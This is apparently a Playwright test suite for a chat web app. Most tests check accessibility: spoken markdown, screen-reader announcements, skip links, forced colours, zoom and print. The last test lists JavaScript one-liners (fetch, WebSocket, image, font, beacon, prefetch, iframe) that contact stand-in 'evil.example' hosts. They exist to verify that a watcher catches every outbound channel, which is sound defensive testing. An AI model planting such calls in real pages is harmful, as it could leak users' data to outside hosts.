"""The page for those who see it otherwise, or not: what is read aloud, where the focus is."""

from __future__ import annotations

import asyncio
import re

import pytest
from playwright.async_api import Browser, Page, expect

from tests.app.harness import eventually
from tests.browser.conftest import REPORT_VIOLATIONS, Watch
from tests.browser.fake import FakeServer, Reply, says
from tests.browser.person import ask, last_answer
from tests.browser.views import Tour

pytestmark = pytest.mark.asyncio(loop_scope="session")

MARKDOWN = """## How to tick

It is **late**. See [the docs](https://example.com/a?b=c) now! Then `x` * 2 _is_ snake_case.
1. First
- [x] Second. Half
> Quoted.

---
| a | b |
|---|---|
| 1 | 2 |

```py
print("never read. Not this.")
```
$$x^2.5$$
It costs $5 and $6, or $n$. ![A cat](https://example.com/c.png)
これは文。つぎの文。
The end"""

SPOKEN = [
    "How to tick",
    "It is late.",
    "See the docs now!",
    "Then x * 2 is snake_case.",
    "1. First",
    "Second.",
    "Half",
    "Quoted.",
    "Table.",
    "Code.",
    "x^2.5",
    "It costs $5 and $6, or n.",
    "Image: A cat.",
    "これは文。",
    "つぎの文。",
    "The end",
]

READ = """async ([text, step]) => {
  const { Speech } = await import("/static/view/speech.js");
  const speech = new Speech();
  const said = [];
  for (let end = 0; end < text.length; end += step) said.push(...speech.of(text.slice(0, end)));
  said.push(...speech.of(text, { complete: true }));
  return said;
}"""


@pytest.mark.parametrize("step", [1, 7, 10_000])
async def test_markdown_is_said_as_one_would_say_it_however_it_comes(page: Page, step: int) -> None:
    assert await page.evaluate(READ, [MARKDOWN, step]) == SPOKEN


async def test_an_answer_is_read_by_sentences_and_its_end_is_said(page: Page, fake: FakeServer) -> None:
    go_on = asyncio.Event()

    async def script(reply: Reply) -> None:
        await reply.begin()
        await reply.text("It is ", "**late**. ", "Go ", "to be")
        await go_on.wait()
        await reply.text("d")
        await reply.incomplete("max_output_tokens")

    fake.scripts.append(script)
    await ask(page, "What now?")
    spoken = page.locator("body > .announcer p")
    await expect(spoken).to_have_text(["It is late."])
    go_on.set()
    await expect(spoken).to_have_text(["It is late.", "Go to bed", "Cut at the token limit"])
    # Of a status the whole would be read again with each sentence, of a log what is new.
    await expect(page.locator("body > .announcer")).to_have_role("log")
    await expect(page.get_by_role("log", name="Conversation")).to_have_attribute("aria-live", "off")


async def test_what_was_there_when_one_came_is_not_read_again(page: Page, fake: FakeServer) -> None:
    go_on = asyncio.Event()

    async def script(reply: Reply) -> None:
        await reply.begin()
        await reply.text("An old sentence. A new")
        await go_on.wait()
        await reply.text(" one.")
        await reply.complete()

    fake.scripts.append(script)
    await ask(page, "Hello")
    await expect(last_answer(page)).to_contain_text("A new")
    await page.get_by_role("button", name="New chat").first.click()
    await page.go_back()
    await page.reload()
    await expect(last_answer(page)).to_contain_text("A new")
    go_on.set()
    await expect(page.locator(".announcer p")).to_have_text(["A new one.", "End of the answer."])


async def test_tab_comes_to_a_way_past_the_chats_first(page: Page) -> None:
    await page.get_by_role("button", name="New chat").first.focus()
    await page.keyboard.press("Shift+Tab")
    skip = page.get_by_role("button", name="Skip to the message box")
    await expect(skip).to_be_focused()
    await expect(skip).to_be_in_viewport()
    await page.keyboard.press("Enter")
    await expect(page.get_by_role("textbox", name="Message")).to_be_focused()


async def test_with_the_readers_own_colours_states_are_still_seen(page: Page, fake: FakeServer) -> None:
    fake.scripts.append(says("Hello."))
    await page.emulate_media(forced_colors="active")
    await ask(page, "Hi")
    await expect(last_answer(page)).to_contain_text("Hello.")
    await expect(page.get_by_role("textbox", name="Message")).to_be_focused()
    line = "(element) => getComputedStyle(element).outlineStyle"
    assert await page.locator("#composer").evaluate(line) == "solid"
    assert await page.locator("#conversations .current").evaluate(line) == "solid"
    assert await page.locator(".themes label:has(:checked)").evaluate(line) == "solid"
    await page.get_by_role("button", name="New chat").first.focus()
    await page.keyboard.press("Tab")
    assert await page.locator(":focus").evaluate(line) == "solid"
    border = "(element) => getComputedStyle(element).borderTopStyle"
    assert await page.locator(".question").evaluate(border) == "solid"
    # The dot that says whether there is a connection.
    colours = "(dot) => [dot, document.body].map((each) => getComputedStyle(each).backgroundColor)"
    dot, ground = await page.locator("#link i").evaluate(colours)
    assert dot != ground


async def test_at_four_times_the_size_nothing_is_lost(page: Page, fake: FakeServer) -> None:
    """A screen of 1280 by 1024 pixels is one of 320 by 256 then."""
    await page.set_viewport_size({"width": 320, "height": 256})
    async for view in Tour(page, fake).views():
        assert await page.evaluate("document.documentElement.scrollWidth") == 320, view
        if view == "answer":
            break
    await expect(page.get_by_role("button", name="Send")).to_be_in_viewport(ratio=1)
    shown = "(scroller) => scroller.clientHeight"
    assert await page.locator("#scroller").evaluate(shown) > 64
    await page.get_by_role("button", name="Conversations").click()
    await page.get_by_role("link", name="Engine").scroll_into_view_if_needed()
    await expect(page.get_by_role("link", name="Engine")).to_be_in_viewport(ratio=1)


async def test_a_conversation_is_printed_whole_and_alone(page: Page, fake: FakeServer) -> None:
    fake.scripts.append(says(*(f"Line {n}\n\n" for n in range(90))))
    await page.emulate_media(color_scheme="dark")
    await ask(page, "Count")
    await expect(last_answer(page).get_by_text("Line 89")).to_be_visible()
    await page.emulate_media(media="print")
    for part in ("#sidebar", "#composer", "main > header", "#skip"):
        await expect(page.locator(part)).to_be_hidden()
    await expect(page.get_by_role("heading", name="Count", level=1)).to_be_visible()
    height = "document.documentElement.scrollHeight"
    assert await page.evaluate(height) > await page.locator("#transcript").evaluate("(it) => it.clientHeight")
    ground = await page.evaluate("getComputedStyle(document.body).backgroundColor")
    assert min(int(part) for part in re.findall(r"\d+", ground)) > 240


LEAKS = {
    "fetch": "fetch('https://fetch.evil.example', { mode: 'no-cors' }).catch(() => {})",
    "socket": "new WebSocket('wss://socket.evil.example')",
    "image": "new Image().src = 'https://image.evil.example'",
    "font": "new FontFace('x', 'url(https://font.evil.example)').load().catch(() => {})",
    "beacon": "navigator.sendBeacon('https://beacon.evil.example', 'x')",
    "prefetch": "document.head.append(Object.assign(document.createElement('link'), "
    "{ rel: 'prefetch', href: 'https://prefetch.evil.example' }))",
    "frame": "document.body.append(Object.assign(document.createElement('iframe'), "
    "{ src: 'https://frame.evil.example' }))",
    "log": "console.warn('log.evil.example')",
    "exception": "setTimeout(() => { throw new Error('exception.evil.example') })",
}


@pytest.mark.parametrize("bypass", [False, True], ids=["under the policy", "without a policy"])
async def test_the_watch_sees_every_way_out(browser: Browser, fake: FakeServer, bypass: bool) -> None:
    """All tests rely on it: what it overlooks could go unnoticed everywhere."""
    context = await browser.new_context(bypass_csp=bypass)
    await context.add_init_script(REPORT_VIOLATIONS)
    watch = Watch(fake.origin)
    watch.attach(await context.new_page())
    page = await context.new_page()
    await page.goto(fake.origin)
    for leak in LEAKS.values():
        await page.evaluate(f"void ({leak})")
    await eventually(lambda: not unseen(watch))
    await context.close()


def unseen(watch: Watch) -> list[str]:
    return [name for name in LEAKS if not any(f"{name}.evil.example" in told for told in watch.complaints)]
